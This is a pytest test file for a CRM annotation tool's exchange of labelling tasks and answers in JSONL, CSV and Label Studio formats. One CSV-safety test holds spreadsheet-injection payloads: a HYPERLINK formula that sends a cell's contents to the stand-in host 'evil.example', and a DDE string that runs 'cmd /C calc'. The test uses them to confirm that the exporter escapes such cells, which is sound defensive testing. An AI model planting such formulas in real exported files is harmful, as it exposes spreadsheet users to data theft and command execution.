"""Task files in the three formats, answered and read back."""

from __future__ import annotations

import csv
import dataclasses
import json
from pathlib import Path

import pytest

from fedcrm.annotate.exchange import (
    CSV_COLUMNS,
    AnnotationTask,
    label_config_path,
    make_tasks,
    read_answers,
    write_label_studio_export,
    write_tasks,
)
from fedcrm.annotate.pool import PoolField
from fedcrm.annotate.strategies import Margin
from fedcrm.errors import ConfigError, MappingError
from fedcrm.ontology import Ontology

POOL = [
    PoolField(org="gamma", object="Account", field="cancelled_on__c", label="Cancellation date",
              kind="date", description="When the customer left",
              candidates=(("account.churn_date", 0.52), ("account.created_date", 0.31))),
    PoolField(org="gamma", object="Account", field="legacy_id__c", label="Legacy système id",
              kind="text", candidates=(("account.account_number", 0.2),)),
    PoolField(org="gamma", object="Account", field="sustainability_rating__c",
              label="Sustainability (ESG) rating", kind="number",
              picklist_values=("A", "B")),
]
#: what an annotator answers for each field: concept column, group column
ANSWERS = {
    "cancelled_on__c": ("account.churn_date", ""),
    "legacy_id__c": ("none", ""),
    "sustainability_rating__c": ("", "account.esg"),
}


@pytest.fixture
def tasks(ontology: Ontology) -> list[AnnotationTask]:
    return make_tasks(Margin().select(POOL, 3), round=2, strategy="margin", ontology=ontology)


def answered(tasks: list[AnnotationTask]) -> list[AnnotationTask]:
    return [t.model_copy(update={"concept": ANSWERS[t.field][0] or None,
                                 "group": ANSWERS[t.field][1] or None,
                                 "annotator": "ana", "note": "checked the help text"})
            for t in tasks]


def check_answers(path: Path, format: str | None = None) -> None:
    sheet = read_answers(path, format=format)
    got = {a.field: (a.concept, a.group, a.annotator, a.round) for a in sheet.answers}
    assert got == {
        "cancelled_on__c": ("account.churn_date", None, "ana", 2),
        "legacy_id__c": (None, None, "ana", 2),
        "sustainability_rating__c": (None, "account.esg", "ana", 2),
    }
    assert all(a.org == "gamma" and a.object == "Account" for a in sheet.answers)
    assert sheet.unanswered == 0


def test_tasks_carry_the_field_and_the_matchers_candidates(tasks: list[AnnotationTask]
                                                           ) -> None:
    first = tasks[0]
    assert first.task_id == "gamma/Account.cancelled_on__c"  # the most uncertain
    assert [(c.concept, c.score) for c in first.candidates] == [
        ("account.churn_date", 0.52), ("account.created_date", 0.31)]
    assert first.candidates[0].label  # the concept's label, for the annotator
    assert (first.round, first.strategy, first.rank, first.concept) == (2, "margin", 0, None)


def test_jsonl_round_trip(tasks: list[AnnotationTask], tmp_path: Path) -> None:
    path = tmp_path / "round.jsonl"
    write_tasks(tasks, path)
    back = [AnnotationTask.model_validate_json(line)
            for line in path.read_text().splitlines()]
    assert back == tasks
    assert read_answers(path).answers == []  # nothing answered yet
    assert read_answers(path).unanswered == 3
    write_tasks(answered(tasks), path)
    check_answers(path)


def test_jsonl_tasks_with_unicode_line_separators_read_back(ontology: Ontology,
                                                            tmp_path: Path) -> None:
    # a help text pasted from a word processor: JSON keeps U+2028 / U+2029 / NEL unescaped
    pasted = dataclasses.replace(POOL[0], description="When\u2028the customer\u2029left\x85")
    tasks = make_tasks([pasted], round=1, strategy="margin", ontology=ontology)
    path = tmp_path / "round.jsonl"
    write_tasks([t.model_copy(update={"concept": "account.churn_date"}) for t in tasks], path)
    (back,) = read_answers(path).answers
    assert (back.field, back.concept, back.where) == ("cancelled_on__c", "account.churn_date",
                                                      f"{path}:1")


def test_csv_round_trip_as_a_spreadsheet_user_edits_it(tasks: list[AnnotationTask],
                                                       tmp_path: Path) -> None:
    path = tmp_path / "round.csv"
    write_tasks(tasks, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets then read UTF-8 accents
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert rows[0]["top_candidates"] == "account.churn_date (0.52); account.created_date (0.31)"
    assert rows[1]["label"] == "Legacy système id"
    assert all(row["concept"] == "" for row in rows)  # left blank for the annotator
    assert rows[2]["picklist_values"] == "A; B"
    # the annotator fills two columns, reorders the sheet and saves it without a BOM
    for row in rows:
        row["concept"], row["group"] = ANSWERS[row["field"]]
        row["annotator"] = "ana"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(reversed(CSV_COLUMNS)))
        writer.writeheader()
        writer.writerows(reversed(rows))
        handle.write(",,,,,,,,,,,,,,,\n")  # a blank row spreadsheets like to leave
    check_answers(path)


def test_label_studio_tasks_config_and_export(tasks: list[AnnotationTask], tmp_path: Path,
                                              ontology: Ontology) -> None:
    path = tmp_path / "round.json"
    written = write_tasks(tasks, path, ontology=ontology, matcher_version="m-1")
    assert written == [path, label_config_path(path)]
    config = label_config_path(path).read_text()
    assert '<Choices name="concept" toName="field" choice="single" value="$options"/>' in config
    assert '<Text name="field" value="$text"/>' in config
    documents = json.loads(path.read_text())
    first = documents[0]
    data = first["data"]
    assert (data["org"], data["object"], data["field"]) == ("gamma", "Account",
                                                            "cancelled_on__c")
    values = [option["value"] for option in data["options"]]
    assert values[:3] == ["account.churn_date", "account.created_date", "none"]
    assert "account.annual_revenue" in values  # any concept of the object can be chosen
    assert "Cancellation date" in data["text"]
    assert first["predictions"][0]["result"][0]["value"]["choices"] == ["account.churn_date"]
    assert first["predictions"][0]["model_version"] == "m-1"
    # a person labels in Label Studio and exports
    export = write_label_studio_export(answered(tasks), tmp_path / "export.json")
    check_answers(export)


def test_label_studio_export_details(tmp_path: Path) -> None:
    data = {"org": "gamma", "object": "Account", "field": "legacy_id__c", "round": 1}
    export = [
        {"id": 1, "data": data, "annotations": [
            {"result": [{"from_name": "concept", "type": "choices",
                         "value": {"choices": ["account.industry"]}}],
             "was_cancelled": True, "completed_by": 3},
            {"result": [{"from_name": "concept", "type": "choices",
                         "value": {"choices": ["none"]}},
                        {"from_name": "note", "type": "textarea",
                         "value": {"text": ["an id from the old CRM"]}}],
             "completed_by": 4, "updated_at": "2026-01-02T03:04:05Z"}]},
        {"id": 2, "data": {**data, "field": "disc__c"}, "annotations": []},
    ]
    path = tmp_path / "export.json"
    path.write_text(json.dumps(export))
    sheet = read_answers(path)
    assert sheet.unanswered == 1
    (answer,) = sheet.answers
    assert (answer.concept, answer.annotator, answer.labelled_at, answer.note) == (
        None, "label-studio-user-4", "2026-01-02T03:04:05Z", "an id from the old CRM")
    # two annotators who disagree are not silently resolved
    export[0]["annotations"][0]["was_cancelled"] = False
    path.write_text(json.dumps(export))
    with pytest.raises(MappingError, match="task 1 .*annotators disagree"):
        read_answers(path)
    # two who agree: both are credited and both notes kept, the later time is the label's
    export[0]["annotations"][0]["result"] = [
        {"from_name": "concept", "type": "choices", "value": {"choices": ["none"]}},
        {"from_name": "note", "type": "textarea", "value": {"text": ["unused since 2019"]}}]
    path.write_text(json.dumps(export))
    (agreed,) = read_answers(path).answers
    assert (agreed.annotator, agreed.note, agreed.labelled_at) == (
        "label-studio-user-3, label-studio-user-4", "unused since 2019 | an id from the old CRM",
        "2026-01-02T03:04:05Z")
    # a labelling config with a renamed control: its answers are not dropped in silence
    export[0]["annotations"][1]["result"][0]["from_name"] = "Concept"
    path.write_text(json.dumps(export))
    with pytest.raises(MappingError, match=r"task 1: a result from 'Concept', which is not a "
                                           r"control of fedcrm's labelling config"):
        read_answers(path)
    # a text or a choice given as a string, not a list: it was read a character at a time
    export[0]["annotations"] = [{"result": [
        {"from_name": "concept", "type": "choices", "value": {"choices": "none"}},
        {"from_name": "note", "type": "textarea", "value": {"text": "hobby field"}}],
        "completed_by": 4}]
    path.write_text(json.dumps(export))
    (single,) = read_answers(path).answers
    assert (single.concept, single.note) == (None, "hobby field")
    export[0]["annotations"][0]["result"] = [
        {"from_name": "group", "type": "textarea", "value": {"text": "loyalty_tier"}}]
    path.write_text(json.dumps(export))
    (grouped,) = read_answers(path).answers
    assert grouped.group == "loyalty_tier"
    # JSON-MIN: one flat object per task
    path.write_text(json.dumps([{**data, "concept": "custom:legacy_ids", "annotator": "bo"}]))
    (flat,) = read_answers(path).answers
    assert (flat.concept, flat.group, flat.annotator) == (None, "legacy_ids", "bo")


@pytest.mark.parametrize(("name", "content", "message"), [
    ("bad.jsonl", '{"org": "gamma", "object": "Account", "field": "x__c", "concept": "a.b"}\n'
                  '{"org": "gamma", "object": \n', r"bad\.jsonl:2: not a JSON object"),
    ("bad.jsonl", '["gamma", "Account"]\n', r"bad\.jsonl:1: expected a JSON object"),
    ("bad.jsonl", '{"org": "gamma", "field": "x__c", "concept": "a.b"}\n',
     r"bad\.jsonl:1: malformed answer row \(object: Field required"),
    ("bad.csv", "org,object,field,label\ngamma,Account,x__c,X\n",
     r"bad\.csv row 1 \(line 1\): missing column\(s\) \['concept'\]"),
    ("bad.csv", "org,object,field,concept\ngamma,Account,x__c,a.b,extra\n",
     r"bad\.csv row 2 \(line 2\): more cells than header"),
    ("bad.json", '{"tasks": []}', r"bad\.json: expected a JSON list of tasks"),
    ("bad.json", "[{\"data\": {}, \"annotations\": [{\"result\": [\"x\"]}]}]",
     r"bad\.json task 1: malformed annotation result"),
])
def test_malformed_files_name_the_line(tmp_path: Path, name: str, content: str,
                                       message: str) -> None:
    path = tmp_path / name
    path.write_text(content)
    with pytest.raises(MappingError, match=message):
        read_answers(path)


def test_unknown_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"\.jsonl, \.csv or \.json"):
        read_answers(tmp_path / "answers.xlsx")
    with pytest.raises(ConfigError, match="unknown format 'excel'"):
        write_tasks([], tmp_path / "tasks.csv", format="excel")


def _annotation(concept: str | None = None, *, note: str | None = None, who: int = 1,
                at: str = "2026-01-02T03:04:05Z") -> dict[str, object]:
    result: list[dict[str, object]] = []
    if concept is not None:
        result.append({"from_name": "concept", "type": "choices",
                       "value": {"choices": [concept]}})
    if note is not None:
        result.append({"from_name": "note", "type": "textarea", "value": {"text": [note]}})
    return {"result": result, "completed_by": who, "updated_at": at}


def test_label_studio_compares_only_answers_after_normalising(tmp_path: Path) -> None:
    data = {"org": "gamma", "object": "Account", "field": "legacy_id__c", "round": 1}
    path = tmp_path / "export.json"
    # a note alone is no answer: it neither clashes with one nor hides it, before or after
    for given in ([_annotation("account.industry", who=1), _annotation(note="hm", who=2)],
                  [_annotation(note="hm", who=2), _annotation("account.industry", who=1)]):
        path.write_text(json.dumps([{"id": 1, "data": data, "annotations": given}]))
        (answer,) = read_answers(path).answers
        assert (answer.concept, answer.annotator) == ("account.industry", "label-studio-user-1")
    # "none" and "NONE" are the same answer
    path.write_text(json.dumps([{"id": 1, "data": data, "annotations": [
        _annotation("none", who=1), _annotation("NONE", who=2)]}]))
    (answer,) = read_answers(path).answers
    assert (answer.concept, answer.group) == (None, None)
    # a real disagreement still stops the import
    path.write_text(json.dumps([{"id": 1, "data": data, "annotations": [
        _annotation("none", who=1), _annotation("account.industry", who=2)]}]))
    with pytest.raises(MappingError, match="annotators disagree .*user-1: none; "
                                           "label-studio-user-2: account.industry"):
        read_answers(path)


def test_label_studio_json_min_keeps_the_time_and_a_numeric_annotator(tmp_path: Path) -> None:
    path = tmp_path / "export.json"
    base = {"id": 3, "org": "gamma", "object": "Account", "round": 1}
    path.write_text(json.dumps([
        {**base, "field": "legacy_id__c", "concept": "none", "annotator": 7,
         "created_at": "2026-01-02T00:00:00Z", "updated_at": "2026-01-03T00:00:00Z",
         "note": ["an id", "from the old CRM"], "lead_time": 12.5},
        {**base, "field": "disc__c", "concept": {"choices": ["opportunity.discount_percent"]},
         "annotator": "bo@example.org", "created_at": "2026-01-04T00:00:00Z"},
    ]))
    first, second = read_answers(path).answers
    assert (first.annotator, first.labelled_at, first.note) == (
        "label-studio-user-7", "2026-01-03T00:00:00Z", "an id from the old CRM")
    assert (second.concept, second.annotator, second.labelled_at) == (
        "opportunity.discount_percent", "bo@example.org", "2026-01-04T00:00:00Z")


def test_csv_saved_with_semicolons_is_read(tasks: list[AnnotationTask], tmp_path: Path) -> None:
    # Excel in a European locale saves "CSV" with semicolons (and sometimes no BOM)
    path = tmp_path / "tasks.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=CSV_COLUMNS, delimiter=";")
        writer.writeheader()
        for task in answered(tasks):
            writer.writerow({"org": task.org, "object": task.object, "field": task.field,
                             "concept": task.concept or "", "group": task.group or "",
                             "annotator": "ana", "round": "2", "label": "a; b"})
    check_answers(path)
    path.write_text("org;object;field;label\ngamma;Account;x__c;X\n", encoding="utf-8")
    with pytest.raises(MappingError, match=r"missing column.*semicolon-separated: save the "
                                           r"file as 'CSV UTF-8 \(comma delimited\)'"):
        read_answers(path)


def test_custom_without_a_group_names_the_row(tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"
    path.write_text("org,object,field,concept\ngamma,Account,x__c,account.industry\n"
                    "gamma,Account,y__c,custom:\n", encoding="utf-8")
    with pytest.raises(MappingError, match=r"answers\.csv row 3 \(line 3\): 'custom:' in the "
                                           r"concept column names no group; write "
                                           r"custom:<group>"):
        read_answers(path)


def test_a_format_that_contradicts_the_extension_is_refused(
    tasks: list[AnnotationTask], tmp_path: Path
) -> None:
    with pytest.raises(ConfigError, match=r"tasks\.jsonl: the extension '\.jsonl' means the "
                                          r"jsonl format, but the format given is csv"):
        write_tasks(tasks, tmp_path / "tasks.jsonl", format="csv")
    assert not (tmp_path / "tasks.jsonl").exists()
    # an extension that names no format takes the given one
    (path,) = write_tasks(answered(tasks), tmp_path / "answers.txt", format="jsonl")
    check_answers(path, format="jsonl")


# ------------------------------------------------------------------ CSV safety and strictness
def test_formula_like_cells_are_escaped_on_export_and_read_back(tmp_path: Path) -> None:
    evil = PoolField(org="gamma", object="Account", field="evil__c",
                     label='=HYPERLINK("http://evil.example/?x="&A1,"click")', kind="text",
                     description="@SUM(1+1)*cmd|' /C calc'!A0",
                     candidates=(("account.churn_date", 0.4),))
    (task,) = make_tasks([evil], round=1)
    path = tmp_path / "round.csv"
    write_tasks([task.model_copy(update={"concept": "-", "annotator": "+ana",
                                         "note": "-- unsure, ask 'sales'"})], path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = csv.DictReader(handle)
    # a spreadsheet shows these as text instead of running them
    assert row["label"] == "'" + evil.label
    assert row["description"].startswith("'@SUM")
    assert (row["concept"], row["annotator"], row["note"]) == (
        "'-", "'+ana", "'-- unsure, ask 'sales'")
    assert row["org"] == "gamma"  # other cells stay as they are
    (answer,) = read_answers(path).answers
    # '-' still means "no concept"; the guard quote is gone, the annotator's own quotes stay
    assert (answer.concept, answer.annotator, answer.note) == (
        None, "+ana", "-- unsure, ask 'sales'")


def test_a_stray_quote_that_swallows_the_following_rows_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"
    header = "org,object,field,concept,round,note\n"
    # never closed: everything to the end of the file would be one note
    path.write_text(header + 'gamma,Account,a__c,account.nps_score,1,"unsure about this\n'
                    "gamma,Account,b__c,account.churn_date,1,\n", encoding="utf-8")
    with pytest.raises(MappingError, match=r"answers\.csv row 2 \(line 2\): a quoted cell is "
                                           r"never closed .*remove the quote or close it"):
        read_answers(path)
    # closed by chance at the end of a later row: valid CSV, but the rows went into the note
    path.write_text(header + "gamma,Account,a__c,account.nps_score,1,ok\n"
                    'gamma,Account,b__c,account.nps_score,1,"unsure about this\n'
                    "gamma,Account,c__c,account.churn_date,1,\n"
                    'gamma,Account,d__c,account.industry,1,"\n', encoding="utf-8")
    with pytest.raises(MappingError, match=r"answers\.csv row 3 \(line 3\): the note cell runs "
                                           r"over 2 more line\(s\) that look like rows"):
        read_answers(path)
    # a real multi-line note is fine
    path.write_text(header + 'gamma,Account,a__c,account.nps_score,1,"first, second\nthird"\n',
                    encoding="utf-8")
    (answer,) = read_answers(path).answers
    assert answer.note == "first, second\nthird"
    # even a note line with as many commas as the sheet has columns: prose, not a row
    prose = "we checked, it is, as far, as we can, tell, fine"
    path.write_text(header + f'gamma,Account,a__c,account.nps_score,1,"first line\n{prose}"\n',
                    encoding="utf-8")
    (answer,) = read_answers(path).answers
    assert answer.note == f"first line\n{prose}"


def test_csv_errors_name_the_row_instead_of_escaping(tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"
    path.write_text("org,object,field,concept,round,note\n"
                    "gamma,Account,a__c,account.nps_score,1,\n"
                    f'gamma,Account,b__c,account.nps_score,1,"{"x" * 140_000}"\n',
                    encoding="utf-8")
    with pytest.raises(MappingError, match=r"answers\.csv row 3 \(line 3\): a cell is longer "
                                           r"than \d+ characters.*shorten it"):
        read_answers(path)
    path.write_text('org,object,field,concept\ngamma,Account,"a__c"x,none\n', encoding="utf-8")
    with pytest.raises(MappingError, match=r"row 2 \(line 2\): text after the closing"):
        read_answers(path)


def test_a_csv_column_given_twice_is_refused(tmp_path: Path) -> None:
    # with two concept columns the last cell won silently, whatever the first one said
    path = tmp_path / "answers.csv"
    path.write_text("org,object,field,concept,concept\n"
                    "gamma,Account,a__c,account.nps_category,account.type\n", encoding="utf-8")
    with pytest.raises(MappingError, match=r"answers\.csv row 1 \(line 1\): column\(s\) "
                                           r"\['concept'\] appear more than once"):
        read_answers(path)


def test_csv_messages_give_the_spreadsheet_row_and_the_line(tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"
    path.write_text("org,object,field,description,concept\n"
                    'gamma,Account,a__c,"line one\nline two\nline three",none\n'
                    "\n"  # a blank row is a row of the sheet too
                    "gamma,Account,b__c,,custom:\n", encoding="utf-8")
    with pytest.raises(MappingError, match=r"answers\.csv row 4 \(line 6\): 'custom:'"):
        read_answers(path)


# ----------------------------------------------------------------------------- provenance
@pytest.mark.parametrize("value", [True, -7, 2.5, "two"])
def test_the_round_must_be_a_whole_number(tmp_path: Path, value: object) -> None:
    path = tmp_path / "answers.jsonl"
    path.write_text(json.dumps({"org": "gamma", "object": "Account", "field": "a__c",
                                "concept": "none", "round": value}) + "\n")
    with pytest.raises(MappingError, match=r"answers\.jsonl:1: malformed answer row \(round: "
                                           r".*whole number >= 0"):
        read_answers(path)


def test_round_cells_of_a_csv_are_read_as_numbers(tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"
    path.write_text("org,object,field,concept,round\ngamma,Account,a__c,none, 2 \n"
                    "gamma,Account,b__c,none,-1\n", encoding="utf-8")
    with pytest.raises(MappingError, match=r"row 3 \(line 3\): malformed answer row \(round"):
        read_answers(path)
    path.write_text("org,object,field,concept,round\ngamma,Account,a__c,none, 2 \n",
                    encoding="utf-8")
    assert [a.round for a in read_answers(path).answers] == [2]


@pytest.mark.parametrize(("name", "content", "message"), [
    ("a.jsonl", '{"org": "gamma", "object": "Account", "field": "a__c", "concept": "none"}\n'
                '{"org": "gamma", "object": "Account", "field": "b__c", "Concept": "none"}\n',
     r"a\.jsonl:2: the key 'Concept' is not read .*rename it 'concept'"),
    ("a.csv", "org,object,field,concept,Note\ngamma,Account,a__c,none,x\n",
     r"a\.csv row 1 \(line 1\): the column 'Note' is not read .*rename it 'note'"),
    ("a.json", '[{"org": "gamma", "object": "Account", "field": "a__c", "GROUP": "g"}]',
     r"a\.json task 1: the key 'GROUP' is not read .*rename it 'group'"),
])
def test_an_answer_key_in_the_wrong_case_is_refused(tmp_path: Path, name: str, content: str,
                                                    message: str) -> None:
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    with pytest.raises(MappingError, match=message):
        read_answers(path)
